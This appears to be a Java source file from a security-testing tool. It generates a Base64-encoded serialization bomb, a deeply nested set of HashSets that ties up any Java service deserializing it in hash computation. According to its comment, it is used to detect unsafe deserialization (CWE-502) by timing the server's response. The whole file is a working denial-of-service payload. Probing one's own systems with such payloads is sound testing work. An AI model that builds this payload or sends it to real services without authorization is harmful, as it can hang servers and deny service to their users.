package usher.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.util.Base64;
import java.util.HashSet;
import java.util.Set;

/**
 * Sets in sets, serialised in Java's own way: whoever reads these few kilobytes as objects computes hashes for longer than anybody waits
 * (CWE-502). So whoever answers at once has not.
 */
final class SerializedBomb {

    private static final int DEPTH = 100;

    private SerializedBomb() {
    }

    static String inBase64() {
        Set<Object> root = new HashSet<>();
        Set<Object> one = root;
        Set<Object> other = new HashSet<>();
        for (int i = 0; i < DEPTH; i++) {
            Set<Object> inOne = new HashSet<>(Set.of("x"));
            Set<Object> inOther = new HashSet<>();
            one.add(inOne);
            one.add(inOther);
            other.add(inOne);
            other.add(inOther);
            one = inOne;
            other = inOther;
        }
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(root);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return Base64.getEncoder().encodeToString(bytes.toByteArray());
    }
}
